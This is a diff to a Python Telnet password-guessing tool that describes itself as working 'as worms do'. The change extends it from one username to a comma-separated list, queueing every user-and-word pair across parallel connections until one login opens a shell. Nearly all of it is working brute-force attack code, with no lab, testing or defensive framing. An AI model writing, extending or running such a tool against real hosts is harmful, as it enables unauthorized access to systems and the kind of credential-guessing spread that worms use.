@@ -1,6 +1,6 @@
-"""Guesses passwords of one account by Telnet, as worms do: several connections at once, several tries each.
+"""Guesses passwords by Telnet, as worms do: several connections at once, several tries each.
 
-usage: telnet_guess.py ADDRESS USER WORDS CONNECTIONS
+usage: telnet_guess.py ADDRESS USER[,USER...] WORDS CONNECTIONS
 
 Refuses every option that the server asks for (RFC 854), answers its prompts, begins a new connection where the server
 closes, and stops at the first word that opens a shell; there it looks who it is, and leaves.
@@ -55,12 +55,12 @@ class Session:
         self.socket.sendall(text.encode() + b"\r\n")
 
 
-def guess(address, user, words, found):
+def guess(address, words, found):
     while not found.is_set() and not words.empty():
         try:
             session = Session(address)
             while not found.is_set() and session.until(rb"login: "):
-                word = words.get_nowait()
+                user, word = words.get_nowait()
                 session.line(user)
                 if session.until(rb"Password: ") is None:
                     break
@@ -78,12 +78,13 @@ def guess(address, user, words, found):
 
 
 def main():
-    address, user, path, connections = sys.argv[1:]
+    address, users, path, connections = sys.argv[1:]
     words, found = queue.Queue(), threading.Event()
     with open(path, encoding="utf-8") as f:
         for word in f.read().split():
-            words.put(word)
-    threads = [threading.Thread(target=guess, args=(address, user, words, found)) for _ in range(int(connections))]
+            for user in users.split(","):
+                words.put((user, word))
+    threads = [threading.Thread(target=guess, args=(address, words, found)) for _ in range(int(connections))]
     for thread in threads:
         thread.start()
     for thread in threads:
